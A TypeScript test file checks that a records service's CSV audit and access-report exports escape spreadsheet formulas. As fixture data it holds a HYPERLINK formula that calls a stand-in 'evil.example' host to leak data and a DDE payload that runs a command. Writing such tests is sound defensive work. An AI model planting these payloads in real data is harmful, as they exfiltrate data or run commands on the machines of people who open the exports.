/**
 * CSV exports are formula-safe (OWASP CSV injection): a name fed by a feed or a client id from a token
 * that starts with = + - @ tab or CR reaches the IG's spreadsheet as text, quoted with a leading '.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { storeKinds } from '../support/stores.ts';
import type { TestService } from '../support/app.ts';
import { NHS, useFixtureService, users } from '../support/fixture.ts';
import { parseCsv } from '../support/csv.ts';

const NAME = '=HYPERLINK("https://evil.example/?leak","Open record")';
const CLIENT = '@SUM(1+1)*cmd|/C calc!A0';
const mallory = { id: 'hv-mallory', org: 'RNU', roleCode: users.hv.roleCode, workgroups: ['HV-BANBURY'] };

describe.each(storeKinds)('formula-safe CSV exports ($name)', (kind) => {
  let svc: TestService;
  let ig: string;
  useFixtureService(kind, (s) => {
    svc = s;
    ig = `Bearer ${svc.tokenFor(users.ig)}`;
  });
  beforeAll(async () => {
    await svc.http.put(`/v1/users/${mallory.id}`).set('Authorization', `Bearer ${svc.adminToken()}`)
      .send({ name: NAME, orgCode: 'RNU', teams: ['HV-BANBURY'] }).expect((r) => expect(r.status).toBeLessThan(300));
    await svc.http.post('/v1/authorise').set('Authorization', `Bearer ${svc.tokenFor(mallory, { azp: CLIENT })}`)
      .send({ child: NHS.toddler, sections: ['immunisations'], action: 'read', purposeOfUse: 'TREAT' }).expect(200);
  });

  const csvOf = async (url: string) => parseCsv((await svc.http.get(url).set('Authorization', ig).expect(200)).text);

  it('neutralises a formula in a user name in the access report CSV', async () => {
    const rows = await csvOf(`/v1/audit/children/${NHS.toddler}/access-report?format=csv`);
    const row = rows.find((r) => r.user === mallory.id);
    expect(row?.name).toBe(`'${NAME}`);
  });

  it('neutralises a formula in a client id in the audit export CSV', async () => {
    const rows = await csvOf('/v1/audit/export?format=csv');
    const row = rows.find((r) => r.user === mallory.id && r.kind === 'decision');
    expect(row?.client).toBe(`'${CLIENT}`);
    // Numbers are not formulas: seq stays a number.
    expect(rows.every((r) => /^\d+$/.test(r.seq))).toBe(true);
  });
});
